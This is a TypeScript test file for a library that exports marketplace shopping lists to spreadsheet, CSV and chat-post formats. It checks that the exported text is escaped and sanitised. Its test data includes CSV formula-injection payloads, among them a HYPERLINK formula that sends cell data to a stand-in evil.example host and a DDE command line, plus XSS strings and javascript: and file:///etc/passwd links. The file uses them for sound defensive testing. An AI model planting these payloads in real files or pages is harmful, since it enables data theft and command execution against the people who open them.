import { agentLink, agents, itemLink, parseLink, type MarketplaceItem } from "@loupe/links";
import * as fc from "fast-check";
import { strFromU8, strToU8, unzipSync } from "fflate";
import { describe, expect, test } from "vitest";
import { readSheet, type SheetRow } from "../src/index.ts";
import { writeSheet, type ItemList, type ItemRow, type SheetFormat } from "../src/write-sheet.ts";
import { linkOf } from "./hostile-files.ts";

const FORMATS: SheetFormat[] = ["xlsx", "csv", "markdown", "reddit", "discord"];
const POSTS: SheetFormat[] = ["markdown", "reddit", "discord"];
const columns = {
  name: "Artikel",
  link: "Link",
  price_cny: "Preis",
  weight_g: "Gewicht",
  size: "Größe",
  note: "Notiz",
  photos: "Fotos",
};
const listOf = (rows: ItemRow[], name = "Haul"): ItemList => ({ name, columns, rows });
const named = (name: string, more: Partial<ItemRow> = {}, title = "Haul") =>
  listOf([{ name, link: linkOf(1), ...more }], title);

function read(list: ItemList, format: SheetFormat): SheetRow[] {
  const written = writeSheet(list, format);
  const sources = Array.isArray(written) ? written : [written];
  const rows = sources.flatMap(
    (source) =>
      readSheet(typeof source === "string" ? strToU8(source) : source, {
        isTable: format === "csv",
      }).rows,
  );
  return rows.filter(({ item }) => item);
}

/** The parts of a workbook as one text. */
const partsOf = (file: Uint8Array) =>
  Object.values(unzipSync(file))
    .map((part) => strFromU8(part))
    .join("\n");

/** A list in a format as one text. */
function textOf(list: ItemList, format: SheetFormat): string {
  const written = writeSheet(list, format);
  if (written instanceof Uint8Array) return partsOf(written);
  return Array.isArray(written) ? written.join("\n") : written;
}

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Cap")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "'=1+1",
  "a | b || c \\| d",
  "`code` ```block```",
  "@everyone @here <@123456789> <@&1> <#2>",
  "\u202Egnp.exe\u2066",
  "👩‍👩‍👧 🔥 Cap",
  "two\nlines\r\nand\u2028more\n\n| x | y |\n|---|---|",
  "\u0000\u0007\u001B[31m\uFFFE\uFFFF",
  "lone \uD83D and \uDD25",
  "]( https://evil.example/x ) [a](https://evil.example/y)",
  `https://weidian.com/item.html?itemID=7999999999 ${linkOf(9)}`,
  "https%3A%2F%2Fweidian.com%2Fitem.html%3FitemID%3D7999999998",
  "<img src=x onerror=alert(1)> &lt;script&gt;",
  "</t></is></c><f>1+1</f>",
  "]]> --> _x003D_1+1 _x0000_",
  "# - 1. > *a* _b_ ~~c~~ ^d u/name r/sub www.evil.example",
  '"quotes", and; commas\tand 5" tabs',
  "",
  " ",
  "x".repeat(5000),
  "🔥".repeat(300),
];

/** Texts of any letters, and pieces of hostile texts beside each other. */
const texts = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: "binary", maxLength: 60 }),
  fc
    .array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 5 })), { maxLength: 4 })
    .map((pieces) => pieces.join("")),
);
const items = fc.record<MarketplaceItem>({
  marketplace: fc.constantFrom("taobao", "tmall", "weidian", "1688"),
  id: fc.integer({ min: 100_000_000, max: 999_999_999_999 }).map(String),
});
const links = fc
  .tuple(items, fc.option(fc.constantFrom(...agents)))
  .map(([item, agent]) => (agent && agentLink(agent.name, item)) ?? itemLink(item))
  .filter((link) => parseLink(link).kind === "item");
const idOf = (link: string) => (parseLink(link) as MarketplaceItem).id;
const rows = fc.record<ItemRow>(
  {
    name: texts,
    link: links,
    price_cny: fc.oneof(fc.integer({ min: 0, max: 100_000 }), fc.double()),
    weight_g: fc.oneof(fc.integer({ min: 1, max: 100_000 }), fc.double()),
    size: texts,
    note: texts,
    photos: fc.constantFrom("https://shop.example/product/weidian/1", "javascript:alert(1)", "x"),
  },
  { requiredKeys: ["name", "link"] },
);

describe("a written list is read back", () => {
  test.each(FORMATS)("from %s as the same items and links, whatever its texts are", (format) => {
    fc.assert(
      fc.property(
        fc.uniqueArray(rows, { selector: ({ link }) => idOf(link), maxLength: 12 }),
        texts,
        (hostileRows, name) => {
          const found = read(listOf(hostileRows, name), format);
          expect(found.map(({ item, link, left }) => [item!.id, link, left])).toEqual(
            hostileRows.map(({ link }) => [idOf(link), link, undefined]),
          );
        },
      ),
      { numRuns: 100 },
    );
  });

  test.each(FORMATS)("from %s with its names, prices, weights and sizes", (format) => {
    const list = listOf([
      { name: "Dunk Low Panda", link: linkOf(1), price_cny: 128, weight_g: 850, size: "EU 42" },
      { name: "棉质连帽卫衣", link: linkOf(2), price_cny: 89.5, weight_g: 700, size: "M-XL" },
      {
        name: "Jordan 4 Fire Red 4×4",
        link: linkOf(3),
        price_cny: 350,
        size: "43",
        note: "GD batch",
      },
      { name: "Box Logo (2024)", link: linkOf(4), price_cny: 1200, weight_g: 320, size: "L" },
    ]);
    expect(
      read(list, format).map((row) => [row.name, row.link, row.price, row.weight_g, row.size]),
    ).toEqual(list.rows.map((row) => [row.name, row.link, row.price_cny, row.weight_g, row.size]));
  });

  test.each(FORMATS)("from %s with names that contain its own signs", (format) => {
    const names = ["Cap | red", "Cap_x0041_1", "Cap & hat <3 u", 'Cap; "5", blue', "Cap ^b~ c"];
    const list = listOf(names.map((name, n) => ({ name, link: linkOf(n), price_cny: 100 + n })));
    expect(read(list, format).map(({ name }) => name)).toEqual(names);
  });

  test.each(POSTS)("from %s with escaped marks of its names", (format) =>
    expect(read(named("Cap `a` *b* _c_ d"), format)[0]!.name).toBe("Cap `a` *b* _c_ d"),
  );

  test("from CSV without the apostrophe before what begins like a formula", () => {
    const csv = writeSheet(named("=Cap", { note: "@home with a hat" }), "csv");
    expect(csv).toContain(`"'=Cap"`);
    expect(readSheet(strToU8(csv), { isTable: true }).rows.at(-1)).toMatchObject({
      name: "Cap",
      note: "@home with a hat",
    });
  });
});

describe("a written sheet", () => {
  const hostile = listOf(
    HOSTILE.map((text, n) => ({ name: text, link: linkOf(n), note: text, size: text })),
  );

  test.each(HOSTILE)("of CSV has no cell that begins like a formula: %j", (text) => {
    const csv = writeSheet(named(text, { note: text, size: text }), "csv");
    expect(csv).toMatch(/^\uFEFF"Artikel",.*\r\n/);
    for (const [, cell] of csv.matchAll(/(?:^|[,\n])"((?:[^"]|"")*)"/g))
      expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    expect(csv.slice(1).replaceAll(/\r\n/g, "")).not.toMatch(/[\p{Cc}\p{Bidi_C}\p{Cs}]/u);
  });

  test("of XLSX has no formula, and only characters and links that XML and Excel allow", () => {
    const text = partsOf(writeSheet(hostile, "xlsx"));
    expect(text).not.toMatch(/<f[ >]|evil\.example\/[xy?]|[\p{Bidi_C}\uFFFE\uFFFF]/u);
    // eslint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\0-\x08\x0B-\x1F]/);
    expect(text).toContain(">=cmd|' /C calc'!A0<");
    expect(text).toContain("&lt;/t&gt;&lt;/is&gt;&lt;/c&gt;&lt;f&gt;1+1&lt;/f&gt;");
    expect(text).toContain("_x005F_x003D_1+1 _x005F_x0000_");
    expect(text.match(/TargetMode="External"/g)).toHaveLength(HOSTILE.length);
  });

  test.each([
    ["a/b\\c?d*e[f]:g", "a b c d e f g"],
    ["'quoted'", "quoted"],
    ["History", "List"],
    ["[]", "List"],
    ["", "Artikel"],
    [`${"x".repeat(30)}🔥`, "x".repeat(30)],
  ])("of XLSX named %j has the name %j", (name, expected) => {
    expect(partsOf(writeSheet(named("Cap", {}, name), "xlsx"))).toContain(
      `<sheet name="${expected}"`,
    );
  });

  test("of XLSX has numbers as numbers, and leaves out columns without values", () => {
    const text = partsOf(writeSheet(named("Cap", { price_cny: 128.456, weight_g: NaN }), "xlsx"));
    expect(text).toContain('<c r="C2" s="4"><v>128.46</v></c></row>');
    expect(text).not.toContain("Gewicht");
  });

  test("has equal bytes for equal lists", () =>
    expect(writeSheet(hostile, "xlsx")).toEqual(writeSheet(hostile, "xlsx")));

  test.each(FORMATS)("of %s has only addresses of the web as links", (format) => {
    for (const link of [
      "javascript:alert(1)//weidian.com",
      "data:text/html,x",
      "file:///etc/passwd",
      "https://weidian.com@evil.example/",
      `${linkOf(1)}&x=${"y".repeat(2000)}`,
      "",
    ])
      expect(textOf(named("Cap", { link }), format)).not.toMatch(
        /alert|data:|etc|evil|yyy|hyperlink ref|\[Cap\]\(/,
      );
    const link = `${linkOf(1)}&q=<b>|)"'\`]*@everyone \u202E`;
    const text = textOf(named("Cap", { link }), format);
    expect(text).toContain(
      "itemID=7265000001&".replace("&", format === "xlsx" ? "&amp;" : "&") +
        "q=%3Cb%3E%7C%29%22%27%60%5D%2A%40everyone%20%E2%80%AE",
    );
  });
});

describe("a written post", () => {
  test.each(POSTS)("of %s has no marks of its texts, and no mention", (format) => {
    const written = HOSTILE.map((text) => textOf(named(text, { note: text }, text), format));
    const own = /(?<!\\)\[((?:\\.|[^\]\\])*)\]\(<?https:\/\/weidian\.com\/[^)]*\)/g;
    for (const text of written) {
      expect(text).not.toMatch(/@(?!\u200B)|[\p{Bidi_C}\p{Cs}]/u);
      expect(text).not.toMatch(/evil\.example\/[xy?]|7999|\bu\/name|www\.evil/);
      // Own marks are those of the table, of the link, and of the heading.
      const rest = text.replace(own, "").replace(/^\*\*|\*\*$/gm, "");
      expect(rest.replace(/^\|.*\|$/gm, (line) => line.replaceAll(/(?<!\\)\|/g, ""))).not.toMatch(
        /(?<!\\)(?:\\\\)*[`*<>|~^[\]]/,
      );
    }
  });

  test("of markdown has a table whose names are links", () => {
    expect(
      writeSheet(named("Cap | red", { price_cny: 128, note: "a\nb" }, "My *haul*"), "markdown"),
    ).toBe(`# My \\*haul\\*

| Artikel | Preis (¥) | Notiz |
| --- | --: | --- |
| [Cap \\| red](${linkOf(1)}) | 128 | a b |
`);
  });

  test("of Discord has a line for each item, without previews of its pages", () => {
    const photos = "https://shop.example/p/1";
    const more = { price_cny: 128, weight_g: 850, size: "M", note: "@here", photos };
    expect(writeSheet(named("Cap", more), "discord")).toEqual([
      `**Haul**\n1. [Cap](<${linkOf(1)}>) · ¥128 · 850 g · Größe: M · @\u200Bhere · [Fotos](<${photos}>)`,
    ]);
  });

  test.each([
    ["reddit", 40_000],
    ["discord", 2000],
  ] as const)("of %s has parts of at most %i characters with all items", (format, lengthMax) => {
    const long = { note: "|".repeat(500), photos: `https://shop.example/${"p".repeat(1900)}` };
    const items = Array.from({ length: 300 }, (_, n) => ({
      name: n % 7 === 0 ? "@".repeat(300) : `Cap ${n}`,
      link: `${linkOf(n)}${n % 11 === 0 ? `&x=${"y".repeat(1700)}` : ""}`,
      ...(n % 5 === 0 ? long : { price_cny: n }),
    }));
    const parts = writeSheet(listOf(items), format);
    expect(parts.length).toBeGreaterThan(1);
    for (const part of parts) expect(part.length).toBeLessThanOrEqual(lengthMax);
    const isLinked = ({ name, link }: ItemRow) => name.length * 2 + link.length < lengthMax - 100;
    expect(read(listOf(items), format).map(({ link }) => link)).toEqual(
      items.filter(isLinked).map(({ link }) => link),
    );
    if (format === "discord")
      expect(writeSheet(listOf(items, ""), format)[0]).toMatch(/^\*\*Artikel\*\*\n/);
  });

  test("of an empty list has its heading", () => {
    expect(writeSheet(listOf([]), "reddit")).toEqual(["| Artikel |\n| --- |"]);
    expect(writeSheet(listOf([]), "discord")).toEqual(["**Haul**"]);
  });
});

test.each(FORMATS)("5,000 rows are written as %s within 3 s", (format) => {
  const rows = Array.from({ length: 5000 }, (_, n) => ({
    name: `Dunk Low ${n}`,
    link: agentLink("kakobuy", { marketplace: "weidian", id: String(7_265_000_000 + n) })!,
    price_cny: n,
    weight_g: 850,
    size: "EU 42",
    note: "The note of an item, which has a few words.",
    photos: `https://shop.example/product/weidian/${n}`,
  }));
  // The best of several, because other tests may take the processor from one of them.
  const times_ms = [1, 2, 3, 4].map(() => {
    const started = performance.now();
    writeSheet(listOf(rows), format);
    return performance.now() - started;
  });
  expect(Math.min(...times_ms)).toBeLessThan(3000);
});
